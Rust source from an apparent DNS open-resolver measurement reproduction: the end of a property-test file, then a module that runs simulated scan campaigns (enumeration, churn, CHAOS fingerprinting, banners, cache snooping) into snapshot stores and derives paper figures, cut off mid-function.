                    prop_assert_eq!(c_hi.assignment[i], c_hi.assignment[j]);
                }
            }
        }
    }

    /// Cluster assignments cover all leaves and cluster members agree
    /// with assignments.
    #[test]
    fn flat_clusters_are_consistent(
        points in proptest::collection::vec(0.0f64..1000.0, 1..30),
        threshold in 0.0f64..500.0,
    ) {
        let n = points.len();
        let d = agglomerate(n, matrix(&points), None);
        let flat = d.cut(threshold);
        prop_assert_eq!(flat.assignment.len(), n);
        let total: usize = flat.clusters.iter().map(|c| c.len()).sum();
        prop_assert_eq!(total, n);
        for (ci, members) in flat.clusters.iter().enumerate() {
            for &m in members {
                prop_assert_eq!(flat.assignment[m], ci);
            }
        }
    }

    /// Duplicated points always land in one cluster at any positive cut.
    #[test]
    fn identical_points_cluster_together(
        value in 0.0f64..1000.0,
        copies in 2usize..10,
        outlier_offset in 500.0f64..2000.0,
        threshold in 1.0f64..100.0,
    ) {
        let mut points = vec![value; copies];
        points.push(value + outlier_offset);
        let d = agglomerate(points.len(), matrix(&points), None);
        let flat = d.cut(threshold);
        for i in 1..copies {
            prop_assert_eq!(flat.assignment[0], flat.assignment[i]);
        }
        if outlier_offset > threshold {
            prop_assert_ne!(flat.assignment[0], flat.assignment[copies]);
        }
    }
}

proptest! {
    /// The tuple-keyed compliance map round-trips through its row-based
    /// JSON representation exactly.
    #[test]
    fn compliance_report_json_round_trips(
        rows in proptest::collection::vec(
            ("[A-Z]{2}", "[a-z]{1,12}\\.example", any::<bool>(), 1u32..50),
            0..40,
        ),
    ) {
        use classify::censorship::ComplianceReport;
        let mut report = ComplianceReport::default();
        for (cc, domain, censored, times) in &rows {
            for _ in 0..*times {
                report.record(geodb::Country::new(cc), domain, *censored);
            }
        }
        let json = serde_json::to_string(&report).unwrap();
        let back: ComplianceReport = serde_json::from_str(&json).unwrap();
        prop_assert_eq!(&back.counts, &report.counts);
    }
}
