//! Campaign collection into snapshot stores, and derivation of the
//! paper artifacts back out of them.
//!
//! Every figure/table runner in [`crate::experiments`] is split in two:
//!
//! * **collect** — drive the scan campaign, streaming observations into
//!   a [`SnapshotSink`] (one committed snapshot per scan round);
//! * **derive** — compute the report from any [`SnapshotSource`].
//!
//! With a [`MemoryStore`] sink this is the classic in-memory run; with
//! a [`CampaignStore`] the same campaign becomes durable, resumable
//! after a kill (committed rounds are skipped on the next run), and
//! re-servable without re-simulation. Both paths execute identical
//! collection and derivation code, which is what the byte-for-byte
//! equivalence tests assert.
//!
//! Resume caveat: the simulated network draws its loss realization from
//! a global packet counter, so a resumed campaign sees a *different but
//! statistically identical* loss pattern for the remaining rounds than
//! an uninterrupted run would have. Committed rounds are never altered.

use crate::experiments::{Fig1Report, Fig2Report, Table3Report, Table4Report, UtilReport, WeekRow};
use classify::snoopclass::{classify_snoop, estimate_full_ttls};
use classify::{classify_version, fingerprint_device, SoftwareClass};
use dnswire::Rcode;
use geodb::{GeoDb, RdnsDb};
use netsim::{FaultPlan, SimTime};
use scanner::campaign::churn as churn_campaign;
use scanner::campaign::enumerate::VerificationReport;
use scanner::{
    churn_from_source, enumerate_with_sink, response_coverage, track_cohort_with_sink, Coverage,
    ProbePolicy,
};
use scanstore::{
    flags, CampaignStore, MemoryStore, Observation, ObservationSink, SnapshotSink, SnapshotSource,
    StoreStats,
};
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet};
use std::io;
use std::net::Ipv4Addr;
use std::path::Path;
use worldgen::{build_world, World, WorldConfig};

/// Wraps a sink and enriches every observation with the GeoIP country
/// and the rDNS dynamic/static token before forwarding it, so those
/// attributes are queryable from the store without the world.
pub struct EnrichSink<'a> {
    inner: &'a mut dyn SnapshotSink,
    geo: GeoDb,
    rdns: RdnsDb,
}

impl<'a> EnrichSink<'a> {
    /// Captures the world's geo/rDNS databases for enrichment.
    pub fn new(world: &World, inner: &'a mut dyn SnapshotSink) -> EnrichSink<'a> {
        EnrichSink {
            geo: world.geo.clone(),
            rdns: world.rdns.clone(),
            inner,
        }
    }
}

impl ObservationSink for EnrichSink<'_> {
    fn observe(&mut self, mut obs: Observation) {
        let ip = obs.ipv4();
        if let Some(cc) = self.geo.country(ip) {
            obs.country = self.inner.intern(cc.as_str());
        }
        if let Some(asn) = self.geo.asn(ip) {
            obs.asn = asn;
        }
        if self.rdns.lookup(ip).is_some() {
            let token = if self.rdns.is_dynamic(ip) {
                "dyn"
            } else {
                "static"
            };
            obs.rdns = self.inner.intern(token);
        }
        self.inner.observe(obs);
    }

    fn intern(&mut self, s: &str) -> u32 {
        self.inner.intern(s)
    }
}

impl SnapshotSink for EnrichSink<'_> {
    fn commit(&mut self, label: &str, t_ms: u64, meta: &[(String, String)]) -> io::Result<u32> {
        self.inner.commit(label, t_ms, meta)
    }
}

// =====================================================================
// Weekly enumeration (Fig. 1, Tables 1–2)
// =====================================================================

/// Meta keys carried by each weekly snapshot.
const META_TRUTH: &str = "truth";
const META_PROBES: &str = "probes_sent";
const META_SKIPPED: &str = "skipped_blacklisted";

/// Run the weekly enumeration campaign, committing one snapshot per
/// week. Weeks before `start_week` are assumed committed in the sink
/// already and are skipped (checkpoint resume).
pub fn collect_weekly(
    cfg: WorldConfig,
    weeks: u32,
    start_week: u32,
    sink: &mut dyn SnapshotSink,
) -> io::Result<()> {
    let mut world = build_world(cfg);
    let blacklist = scanner::Blacklist::new(
        world.blacklist_ranges.clone(),
        world.blacklist_singles.clone(),
    );
    if start_week > 0 {
        telemetry::info(
            "campaign.resume",
            "resuming weekly campaign from checkpoint",
            &[("start_week", start_week.into()), ("weeks", weeks.into())],
            Some(world.now().millis()),
        );
    }
    for week in start_week..weeks {
        world.advance_to_week(week);
        weekly_scan_week(&mut world, week, &blacklist, sink)?;
    }
    Ok(())
}

/// One weekly enumeration round at the world's current time: scans,
/// enriches, and commits the `week-{week}` snapshot. Shared by
/// [`collect_weekly`] and the bundle engine. Returns the sweep's
/// space coverage (probes dispatched over probes planned).
fn weekly_scan_week(
    world: &mut World,
    week: u32,
    blacklist: &scanner::Blacklist,
    sink: &mut dyn SnapshotSink,
) -> io::Result<Coverage> {
    let vantage = world.scanner_ip;
    let mut sp = telemetry::span("campaign.week", world.now().millis());
    sp.attr("week", week);
    // Ground truth for the cross-check: alive NOERROR resolvers
    // reachable by the scan (not opted out, not behind full border
    // filters — those are invisible to every outside observer).
    let truth = world
        .resolvers
        .iter()
        .filter(|m| {
            m.response_class == worldgen::world::ResponseClass::NoError
                && m.alive.load(std::sync::atomic::Ordering::Relaxed)
                && world
                    .resolver_ip(m)
                    .map(|ip| !blacklist.contains(ip))
                    .unwrap_or(false)
                && !world
                    .border_filtered_asns
                    .iter()
                    .any(|&(asn, w)| m.asn == asn && week >= w)
        })
        .count() as u64;
    let mut enriched = EnrichSink::new(world, sink);
    let result = enumerate_with_sink(world, vantage, 0xF161 + week as u64, &mut enriched);
    let meta = vec![
        (META_TRUTH.to_string(), truth.to_string()),
        (META_PROBES.to_string(), result.probes_sent.to_string()),
        (
            META_SKIPPED.to_string(),
            result.skipped_blacklisted.to_string(),
        ),
    ];
    sink.commit(&format!("week-{week}"), world.now().millis(), &meta)?;
    sp.attr("probes_sent", result.probes_sent);
    sp.attr("responders", result.observations.len());
    sp.attr("truth_noerror", truth);
    sp.finish(world.now().millis());
    telemetry::info(
        "campaign.week",
        "weekly enumeration committed",
        &[
            ("week", week.into()),
            ("probes_sent", result.probes_sent.into()),
            ("responders", result.observations.len().into()),
        ],
        Some(world.now().millis()),
    );
    Ok(Coverage::space(
        result.probes_sent + result.skipped_blacklisted,
        result.probes_sent,
    ))
}

/// Derive the Figure 1 series (and the per-country snapshots Tables
/// 1–2 need) from a committed weekly snapshot sequence.
pub fn fig1_from_source(src: &dyn SnapshotSource) -> io::Result<Fig1Report> {
    let mut report = Fig1Report::default();
    let last = src.snapshot_count().saturating_sub(1);
    src.for_each_snapshot(&mut |snap| {
        let mut row = WeekRow {
            week: snap.seq,
            ..WeekRow::default()
        };
        let mut by_country: BTreeMap<String, u64> = BTreeMap::new();
        for o in &snap.records {
            row.all += 1;
            match o.rcode {
                0 => row.noerror += 1,
                5 => row.refused += 1,
                2 => row.servfail += 1,
                _ => {}
            }
            if o.flags & flags::PROXY != 0 {
                row.proxy_responders += 1;
            }
            if o.rcode == 0 && o.country != 0 {
                *by_country
                    .entry(src.string(o.country).to_string())
                    .or_insert(0) += 1;
            }
        }
        report.ground_truth_noerror.push(
            snap.meta_value(META_TRUTH)
                .and_then(|v| v.parse().ok())
                .unwrap_or(0),
        );
        if snap.seq == 0 {
            report.first_by_country = by_country.clone();
        }
        if snap.seq == last {
            report.last_by_country = by_country;
        }
        report.weeks.push(row);
        Ok(())
    })?;
    Ok(report)
}

/// Run (or resume, or merely reopen) the weekly campaign against the
/// persistent store under `dir` and derive Figure 1 from it. When the
/// store already holds all `weeks` snapshots nothing is re-simulated.
#[deprecated(
    note = "collect a bundle with `collect_bundle` and derive via the experiment registry"
)]
pub fn stored_fig1(
    cfg: WorldConfig,
    weeks: u32,
    dir: &Path,
) -> io::Result<(Fig1Report, StoreStats)> {
    let mut store = CampaignStore::open(dir.join("weekly"))?;
    let committed = store.snapshot_count();
    if committed < weeks {
        collect_weekly(cfg, weeks, committed, &mut store)?;
    }
    Ok((fig1_from_source(&store)?, store.stats()))
}

// =====================================================================
// Churn cohort tracking (Fig. 2)
// =====================================================================

/// Run the churn campaign into `sink`, resuming past any committed
/// rounds. The cohort comes from a fresh enumeration on the first run
/// and is read back from snapshot 0 on resume.
pub fn collect_churn<S: SnapshotSink + SnapshotSource>(
    cfg: WorldConfig,
    weeks: u32,
    sink: &mut S,
) -> io::Result<()> {
    let committed = sink.snapshot_count();
    if committed >= weeks + 2 {
        return Ok(()); // cohort + day1 + weekly rounds all durable
    }
    let mut world = build_world(cfg);
    let vantage = world.scanner_ip;
    let cohort: Vec<std::net::Ipv4Addr> = if committed == 0 {
        scanner::enumerate(&mut world, vantage, 0xF162).noerror_ips()
    } else {
        sink.snapshot(0)?.records.iter().map(|o| o.ipv4()).collect()
    };
    let mut enriched = EnrichSink::new(&world, sink);
    track_cohort_with_sink(
        &mut world,
        vantage,
        &cohort,
        weeks,
        0xF162,
        &mut enriched,
        committed,
    )
}

/// Derive Figure 2 from a committed churn snapshot sequence.
pub fn fig2_from_source(src: &dyn SnapshotSource) -> io::Result<Fig2Report> {
    Ok(Fig2Report {
        churn: churn_from_source(src)?,
    })
}

/// Run (or resume, or merely reopen) the churn campaign against the
/// persistent store under `dir` and derive Figure 2 from it.
#[deprecated(
    note = "collect a bundle with `collect_bundle` and derive via the experiment registry"
)]
pub fn stored_fig2(
    cfg: WorldConfig,
    weeks: u32,
    dir: &Path,
) -> io::Result<(Fig2Report, StoreStats)> {
    let mut store = CampaignStore::open(dir.join("churn"))?;
    collect_churn(cfg, weeks, &mut store)?;
    Ok((fig2_from_source(&store)?, store.stats()))
}

// =====================================================================
// CHAOS fingerprinting (Table 3) from a stored snapshot
// =====================================================================

/// Derive Table 3 from a committed CHAOS snapshot: outcome codes live
/// in the flag bits, version strings in the interned `software` field.
pub fn table3_from_source(src: &dyn SnapshotSource, seq: u32) -> io::Result<Table3Report> {
    let snap = src.snapshot(seq)?;
    let mut report = Table3Report::default();
    for o in &snap.records {
        match flags::chaos_outcome(o.flags) {
            flags::CHAOS_ERRORS => {
                report.responding += 1;
                report.errors += 1;
            }
            flags::CHAOS_EMPTY => {
                report.responding += 1;
                report.empty += 1;
            }
            flags::CHAOS_VERSION => {
                report.responding += 1;
                match classify_version(src.string(o.software)) {
                    SoftwareClass::Known { family, version } => {
                        report.genuine += 1;
                        *report
                            .versions
                            .entry(format!("{family} {version}"))
                            .or_insert(0) += 1;
                    }
                    SoftwareClass::Custom(_) => report.custom += 1,
                }
            }
            _ => {}
        }
    }
    Ok(report)
}

/// Run (or reopen) the CHAOS campaign against the persistent store
/// under `dir` and derive Table 3. The fleet is enumerated fresh only
/// when the store has no committed CHAOS snapshot yet.
#[deprecated(
    note = "collect a bundle with `collect_bundle` and derive via the experiment registry"
)]
pub fn stored_table3(
    cfg: WorldConfig,
    seed: u64,
    dir: &Path,
) -> io::Result<(Table3Report, StoreStats)> {
    let mut store = CampaignStore::open(dir.join("chaos"))?;
    if store.snapshot_count() == 0 {
        let mut world = build_world(cfg);
        let vantage = world.scanner_ip;
        let fleet = scanner::enumerate(&mut world, vantage, seed).noerror_ips();
        let mut enriched = EnrichSink::new(&world, &mut store);
        scanner::chaos_scan_with_sink(
            &mut world,
            vantage,
            &fleet,
            seed,
            &ProbePolicy::single(),
            &mut enriched,
        );
        let t_ms = world.now().millis();
        store.commit("chaos", t_ms, &[])?;
    }
    Ok((table3_from_source(&store, 0)?, store.stats()))
}

// =====================================================================
// Campaign bundle: collect once, derive many
// =====================================================================
//
// One pass over a single built `World` runs every required campaign at
// most once, on a fixed schedule of *absolute* anchor times. The
// anchors are chosen so that (a) no two campaigns share an anchor,
// (b) every campaign's in-flight pumping finishes long before the next
// anchor, and (c) none of the pumping crosses a 6-hour DHCP renumber
// boundary (see `World::advance_to`). Together with the flow-keyed
// network randomness this makes every campaign's observations
// *identical no matter which other campaigns run in the same bundle* —
// the property the bundle-equivalence integration test asserts
// byte-for-byte.

/// The campaign types a bundle can collect. Each runs at most once per
/// bundle; experiments declare which ones they need.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum CampaignKind {
    /// Weekly enumeration series (Fig. 1, Tables 1–2).
    Weekly,
    /// The shared fingerprinting fleet: one enumeration whose NOERROR
    /// responders feed CHAOS, banners, snooping, churn and domains.
    Fleet,
    /// CHAOS version.bind scan (Table 3).
    Chaos,
    /// TCP banner grab + device fingerprinting (Table 4).
    Banner,
    /// Cache snooping rounds (Sec. 2.6).
    Snoop,
    /// Cohort churn tracking (Fig. 2).
    Churn,
    /// 155-domain manipulation scan + analysis (Sections 3–4).
    Domains,
    /// Dual-vantage verification (Sec. 2.2).
    Verify,
}

impl CampaignKind {
    /// Every campaign kind, in store order.
    pub const ALL: [CampaignKind; 8] = [
        CampaignKind::Weekly,
        CampaignKind::Fleet,
        CampaignKind::Chaos,
        CampaignKind::Banner,
        CampaignKind::Snoop,
        CampaignKind::Churn,
        CampaignKind::Domains,
        CampaignKind::Verify,
    ];

    /// Stable name: the store subdirectory and telemetry label.
    pub fn name(self) -> &'static str {
        match self {
            CampaignKind::Weekly => "weekly",
            CampaignKind::Fleet => "fleet",
            CampaignKind::Chaos => "chaos",
            CampaignKind::Banner => "banner",
            CampaignKind::Snoop => "snoop",
            CampaignKind::Churn => "churn",
            CampaignKind::Domains => "domains",
            CampaignKind::Verify => "verify",
        }
    }
}

/// Everything a bundle collection needs to know.
#[derive(Debug, Clone)]
pub struct BundleOptions {
    /// World to build (seed, scale, loss, weeks).
    pub cfg: WorldConfig,
    /// Weekly-series length (churn is additionally capped at the
    /// paper's 55 weeks).
    pub weeks: u32,
    /// Base scan seed (fleet enumeration, CHAOS, verification).
    pub seed: u64,
    /// Resolvers snooped (prefix of the fleet).
    pub snoop_sample: usize,
    /// Hourly snooping rounds.
    pub snoop_rounds: usize,
    /// Options for the Sections 3–4 analysis pipeline.
    pub analysis: crate::pipeline::AnalysisOptions,
    /// Fault plan injected into the simulated network before any
    /// campaign runs (`None` = pristine network; `FaultPlan::none()`
    /// installs nothing and is byte-identical to `None`).
    pub faults: Option<FaultPlan>,
    /// Retransmission policy shared by every retrying campaign
    /// (enumeration sweeps stay single-probe regardless — Sec. 2.2).
    pub probe: ProbePolicy,
    /// Track per-campaign [`Coverage`] during collection. Purely
    /// observational: coverage never alters campaign traffic.
    pub coverage: bool,
    /// Coverage fraction below which a campaign is flagged degraded.
    pub degraded_threshold: f64,
}

impl BundleOptions {
    /// Defaults matching `repro`: seed/weeks from the world config,
    /// 1,500 snooped resolvers, 36 rounds, no faults, single-probe
    /// policy, coverage tracked with a 95% degradation threshold.
    pub fn new(cfg: WorldConfig) -> BundleOptions {
        BundleOptions {
            seed: cfg.seed,
            weeks: cfg.weeks,
            cfg,
            snoop_sample: 1_500,
            snoop_rounds: 36,
            analysis: crate::pipeline::AnalysisOptions::default(),
            faults: None,
            probe: ProbePolicy::single(),
            coverage: true,
            degraded_threshold: 0.95,
        }
    }
}

/// One campaign's backing store: in-memory or durable on disk. Both
/// expose the same sink/source traits, so collection and derivation
/// run one code path.
pub enum CampaignData {
    /// Zero-persistence in-memory snapshots.
    Mem(MemoryStore),
    /// Durable, delta-encoded, resumable on-disk store.
    Disk(CampaignStore),
}

impl CampaignData {
    fn sink(&mut self) -> &mut dyn SnapshotSink {
        match self {
            CampaignData::Mem(m) => m,
            CampaignData::Disk(d) => d,
        }
    }

    /// Read access to the committed snapshots.
    pub fn source(&self) -> &dyn SnapshotSource {
        match self {
            CampaignData::Mem(m) => m,
            CampaignData::Disk(d) => d,
        }
    }

    fn count(&self) -> u32 {
        self.source().snapshot_count()
    }
}

/// The immutable result of a bundle collection: one snapshot source
/// per collected campaign. Shared (`&BundleData`) across rayon workers
/// during parallel experiment derivation.
pub struct BundleData {
    data: BTreeMap<CampaignKind, CampaignData>,
    coverage: BTreeMap<CampaignKind, Coverage>,
}

impl BundleData {
    /// Whether `kind` was collected into this bundle.
    pub fn has(&self, kind: CampaignKind) -> bool {
        self.data.contains_key(&kind)
    }

    /// Per-campaign coverage measured during *this* collection.
    /// Campaigns served entirely from a pre-existing store have no
    /// entry: coverage is a collection-time diagnostic of the scan
    /// just performed, deliberately not persisted to the stores.
    pub fn coverage(&self) -> &BTreeMap<CampaignKind, Coverage> {
        &self.coverage
    }

    /// Campaigns whose coverage fraction fell below `threshold`.
    pub fn degraded(&self, threshold: f64) -> Vec<CampaignKind> {
        self.coverage
            .iter()
            .filter(|(_, c)| c.fraction() < threshold)
            .map(|(&k, _)| k)
            .collect()
    }

    /// The snapshot source for `kind`; `NotFound` if the bundle was
    /// collected without it.
    pub fn source(&self, kind: CampaignKind) -> io::Result<&dyn SnapshotSource> {
        self.data.get(&kind).map(|d| d.source()).ok_or_else(|| {
            io::Error::new(
                io::ErrorKind::NotFound,
                format!(
                    "campaign `{}` was not collected in this bundle",
                    kind.name()
                ),
            )
        })
    }

    /// Store statistics for every disk-backed campaign (empty for
    /// in-memory bundles), in store order.
    pub fn store_stats(&self) -> Vec<(&'static str, StoreStats)> {
        let mut out = Vec::new();
        for kind in CampaignKind::ALL {
            if let Some(CampaignData::Disk(store)) = self.data.get(&kind) {
                out.push((kind.name(), store.stats()));
            }
        }
        out
    }
}

/// What the generator planted, captured at world build time and
/// persisted in the fleet snapshot's meta — the closed-loop
/// validation's left-hand column.
#[derive(Debug, Clone, Copy, Default, Serialize, Deserialize)]
pub struct GroundTruth {
    /// Alive NOERROR resolvers.
    pub noerror: f64,
    /// Alive REFUSED resolvers.
    pub refused: f64,
    /// Planned TCP-exposed fraction.
    pub tcp_exposed: f64,
    /// Share of alive NOERROR resolvers leaking genuine versions.
    pub genuine_share: f64,
    /// Planted ZyNOS devices among alive NOERROR resolvers.
    pub zynos: f64,
    /// Planned in-use cache share (frequent + slow profiles).
    pub in_use_share: f64,
}

/// Captures the generator's ground truth from resolver metadata.
pub fn capture_ground_truth(world: &World) -> GroundTruth {
    use worldgen::world::ResponseClass;
    let counts = world.alive_counts();
    let alive_noerror: Vec<&worldgen::ResolverMeta> = world
        .resolvers
        .iter()
        .filter(|m| {
            m.alive.load(std::sync::atomic::Ordering::Relaxed)
                && m.response_class == ResponseClass::NoError
        })
        .collect();
    let plan = worldgen::plan::UTILIZATION_PLAN;
    GroundTruth {
        noerror: *counts.get(&ResponseClass::NoError).unwrap_or(&0) as f64,
        refused: *counts.get(&ResponseClass::Refused).unwrap_or(&0) as f64,
        // The device plan records only *recognizable* devices; hosts
        // with unrecognizable banners are also TCP-exposed, so ground
        // truth is the plan constant.
        tcp_exposed: worldgen::plan::TCP_EXPOSED_FRACTION,
        genuine_share: alive_noerror.iter().filter(|m| m.chaos_genuine).count() as f64
            / alive_noerror.len().max(1) as f64,
        zynos: alive_noerror
            .iter()
            .filter(|m| matches!(m.device, Some(worldgen::plan::DeviceClassPlan::RouterZyNos)))
            .count() as f64,
        in_use_share: plan.frequent + plan.in_use_slow,
    }
}

/// Meta key on the fleet snapshot carrying the serialized
/// [`GroundTruth`].
const META_GROUND_TRUTH: &str = "ground_truth";
/// Meta key on the domains snapshot carrying the serialized
/// [`crate::pipeline::AnalysisReport`].
const META_ANALYSIS_REPORT: &str = "report";

/// Simulated week of the dual-vantage verification scan.
pub const VERIFY_WEEK: u32 = 30;

// Absolute campaign anchors (ms since epoch). Distinct per campaign so
// no campaign's start time depends on another campaign's pumping; all
// pumping at plausible scales finishes within minutes, far inside the
// gaps, and never crosses a 6-hour renumber boundary.
const FLEET_ANCHOR: u64 = SimTime::HOUR;
const CHAOS_ANCHOR: u64 = 3 * SimTime::HOUR;
const BANNER_ANCHOR: u64 = 4 * SimTime::HOUR;
const DOMAINS_ANCHOR: u64 = 7 * SimTime::HOUR;
const CHURN_DAY1_ANCHOR: u64 = 25 * SimTime::HOUR + SimTime::HOUR / 2;
// Snooping spans `rounds` hourly rounds from here; with the default 36
// rounds it ends at 66h, before the first churn/weekly round at week 1.
const SNOOP_ANCHOR: u64 = 30 * SimTime::HOUR;
const CHURN_WEEK_OFFSET: u64 = 2 * SimTime::HOUR;
const VERIFY_PRIMARY_OFFSET: u64 = 4 * SimTime::HOUR;
const VERIFY_SECONDARY_OFFSET: u64 = 5 * SimTime::HOUR;

/// Churn probe seed base (kept from the pre-bundle campaign).
const CHURN_SEED: u64 = 0xF162;
/// Snoop seed (kept from the pre-bundle utilization experiment).
const SNOOP_SEED: u64 = 0x5009;

#[derive(Debug, Clone, Copy)]
enum Task {
    Week(u32),
    Fleet,
    Cohort,
    Chaos,
    Banner,
    Domains,
    Day1,
    Snoop,
    ChurnWeek(u32),
    VerifyPrimary,
    VerifySecondary,
}

fn mark_ran(ran: &mut BTreeSet<CampaignKind>, kind: CampaignKind) {
    if ran.insert(kind) {
        telemetry::global()
            .counter_with("collect.campaign_runs", &[("campaign", kind.name())])
            .inc();
    }
}

/// The per-campaign sink map threaded through every bundle task.
type BundleSinks = BTreeMap<CampaignKind, CampaignData>;

/// Run one campaign task with graceful degradation: when the task
/// fails against a disk-backed store, the (possibly mid-write) store
/// handle is discarded, the store is reopened from its last durable
/// checkpoint — `CampaignStore::open` drops any uncommitted tail —
/// and the task is retried once before the error propagates. Memory
/// bundles have no checkpoint to fall back to and fail immediately.
fn with_checkpoint_retry<T>(
    kind: CampaignKind,
    store_dir: Option<&Path>,
    data: &mut BundleSinks,
    world: &mut World,
    f: &mut dyn FnMut(&mut World, &mut BundleSinks) -> io::Result<T>,
) -> io::Result<T> {
    match f(world, data) {
        Ok(v) => Ok(v),
        Err(err) => {
            let Some(dir) = store_dir else {
                return Err(err);
            };
            telemetry::global()
                .counter_with("collect.campaign_retried", &[("campaign", kind.name())])
                .inc();
            telemetry::warn(
                "collect.retry",
                "campaign failed; reopening store from last checkpoint and retrying once",
                &[
                    ("campaign", kind.name().into()),
                    ("error", err.to_string().into()),
                ],
                Some(world.now().millis()),
            );
            data.insert(
                kind,
                CampaignData::Disk(CampaignStore::open(dir.join(kind.name()))?),
            );
            f(world, data)
        }
    }
}

/// The fleet, read back from a committed fleet snapshot: NOERROR
/// responders in ascending address order — the same list and order
/// `EnumerationResult::noerror_ips` produces live.
fn fleet_from_source(src: &dyn SnapshotSource) -> io::Result<Vec<Ipv4Addr>> {
    Ok(src
        .snapshot(0)?
        .records
        .iter()
        .filter(|o| o.rcode == Rcode::NoError.to_u8())
        .map(|o| o.ipv4())
        .collect())
}

/// Collect every campaign in `kinds` (plus the shared fleet when any
/// dependent campaign asks for it) in one pass over one world. With
/// `store_dir` each campaign persists under its own subdirectory and
/// completed campaigns are served from disk without re-simulation;
/// without it everything streams into memory.
///
/// Telemetry proves the once-ness: `collect.world_builds` counts world
/// constructions and `collect.campaign_runs{campaign=…}` counts actual
/// campaign executions (resumes served from a store do not count).
pub fn collect_bundle(
    opts: &BundleOptions,
    kinds: &[CampaignKind],
    store_dir: Option<&Path>,
) -> io::Result<BundleData> {
    use CampaignKind::*;
    let mut want: BTreeSet<CampaignKind> = kinds.iter().copied().collect();
    if [Chaos, Banner, Snoop, Churn, Domains]
        .iter()
        .any(|k| want.contains(k))
    {
        want.insert(Fleet);
    }
    let mut data: BTreeMap<CampaignKind, CampaignData> = BTreeMap::new();
    for &kind in &want {
        data.insert(
            kind,
            match store_dir {
                Some(dir) => CampaignData::Disk(CampaignStore::open(dir.join(kind.name()))?),
                None => CampaignData::Mem(MemoryStore::new()),
            },
        );
    }
    if want.is_empty() {
        return Ok(BundleData {
            data,
            coverage: BTreeMap::new(),
        });
    }

    let committed: BTreeMap<CampaignKind, u32> =
        want.iter().map(|&k| (k, data[&k].count())).collect();
    let churn_weeks = opts.weeks.min(55);

    // A partially committed snoop store cannot be resumed: skipping
    // committed rounds would skip the cache interactions that shaped
    // them, changing every later round (single-then-silent resolvers).
    if let Some(&c) = committed.get(&Snoop) {
        if c > 0 {
            let sample = data[&Snoop].source().snapshot(0)?;
            let expected = sample
                .meta_value(scanner::campaign::snoop::SNOOP_META_ROUNDS)
                .zip(sample.meta_value(scanner::campaign::snoop::SNOOP_META_TLDS))
                .and_then(|(r, t)| Some(1 + r.parse::<u32>().ok()? * t.parse::<u32>().ok()?));
            if expected != Some(c) {
                return Err(io::Error::new(
                    io::ErrorKind::InvalidData,
                    "snoop store is incomplete (all-or-nothing campaign); delete it and re-run",
                ));
            }
        }
    }

    let needs_run = |kind: CampaignKind| -> bool {
        let c = committed[&kind];
        match kind {
            Weekly => c < opts.weeks,
            Fleet | Chaos | Banner | Domains => c < 1,
            Snoop => c == 0,
            Churn => c < churn_weeks + 2,
            Verify => c < 2,
        }
    };
    if !want.iter().any(|&k| needs_run(k)) {
        return Ok(BundleData {
            data,
            coverage: BTreeMap::new(),
        }); // fully served from the store
    }

    let mut world = build_world(opts.cfg.clone());
    telemetry::counter("collect.world_builds").inc();
    if let Some(plan) = &opts.faults {
        if !plan.is_noop() {
            telemetry::info(
                "collect.faults",
                "injecting network fault plan",
                &[],
                Some(world.now().millis()),
            );
        }
        world.net.set_fault_plan(plan.clone());
    }
    let truth = capture_ground_truth(&world);
    let vantage = world.scanner_ip;
    let blacklist = scanner::Blacklist::new(
        world.blacklist_ranges.clone(),
        world.blacklist_singles.clone(),
    );

    // The absolute schedule; stable sort keeps same-anchor push order
    // (fleet before churn's cohort commit, which sends no packets).
    let mut tasks: Vec<(u64, Task)> = Vec::new();
    if want.contains(&Weekly) {
        for w in 0..opts.weeks {
            tasks.push((w as u64 * SimTime::WEEK, Task::Week(w)));
        }
    }
    if want.contains(&Fleet) {
        tasks.push((FLEET_ANCHOR, Task::Fleet));
    }
    if want.contains(&Chaos) {
        tasks.push((CHAOS_ANCHOR, Task::Chaos));
    }
    if want.contains(&Banner) {
        tasks.push((BANNER_ANCHOR, Task::Banner));
    }
    if want.contains(&Churn) {
        tasks.push((FLEET_ANCHOR, Task::Cohort));
        tasks.push((CHURN_DAY1_ANCHOR, Task::Day1));
        for w in 1..=churn_weeks {
            tasks.push((
                w as u64 * SimTime::WEEK + CHURN_WEEK_OFFSET,
                Task::ChurnWeek(w),
            ));
        }
    }
    if want.contains(&Domains) {
        tasks.push((DOMAINS_ANCHOR, Task::Domains));
    }
    if want.contains(&Snoop) {
        tasks.push((SNOOP_ANCHOR, Task::Snoop));
    }
    if want.contains(&Verify) {
        let base = VERIFY_WEEK as u64 * SimTime::WEEK;
        tasks.push((base + VERIFY_PRIMARY_OFFSET, Task::VerifyPrimary));
        tasks.push((base + VERIFY_SECONDARY_OFFSET, Task::VerifySecondary));
    }
    tasks.sort_by_key(|&(anchor, _)| anchor);

    let mut fleet: Option<Vec<Ipv4Addr>> = None;
    let mut cohort: Option<Vec<Ipv4Addr>> = None;
    let mut ran: BTreeSet<CampaignKind> = BTreeSet::new();
    let mut coverage: BTreeMap<CampaignKind, Coverage> = BTreeMap::new();
    let absorb =
        |coverage: &mut BTreeMap<CampaignKind, Coverage>, kind: CampaignKind, cov: Coverage| {
            if opts.coverage {
                coverage.entry(kind).or_default().absorb(&cov);
            }
        };

    // Root profiling span for the whole collect phase. Opened only
    // under `--profile`: an unconditional span would shift span
    // ids/parents in every trace, breaking byte-identity with
    // pre-profiler traces.
    let mut bundle_span = telemetry::profiling_enabled().then(|| {
        let mut s = telemetry::span("collect.bundle", world.now().millis());
        s.attr("tasks", tasks.len());
        s
    });
    for (anchor, task) in tasks {
        world.advance_to(SimTime(anchor));
        match task {
            Task::Week(w) => {
                if w < committed[&Weekly] {
                    continue;
                }
                mark_ran(&mut ran, Weekly);
                let cov = with_checkpoint_retry(
                    Weekly,
                    store_dir,
                    &mut data,
                    &mut world,
                    &mut |world, data| {
                        weekly_scan_week(
                            world,
                            w,
                            &blacklist,
                            data.get_mut(&Weekly).unwrap().sink(),
                        )
                    },
                )?;
                absorb(&mut coverage, Weekly, cov);
            }
            Task::Fleet => {
                if committed[&Fleet] >= 1 {
                    fleet = Some(fleet_from_source(data[&Fleet].source())?);
                    continue;
                }
                mark_ran(&mut ran, Fleet);
                let result = with_checkpoint_retry(
                    Fleet,
                    store_dir,
                    &mut data,
                    &mut world,
                    &mut |world, data| {
                        let sink = data.get_mut(&Fleet).unwrap().sink();
                        let mut enriched = EnrichSink::new(world, sink);
                        let result = enumerate_with_sink(world, vantage, opts.seed, &mut enriched);
                        let meta = vec![
                            (META_PROBES.to_string(), result.probes_sent.to_string()),
                            (
                                META_SKIPPED.to_string(),
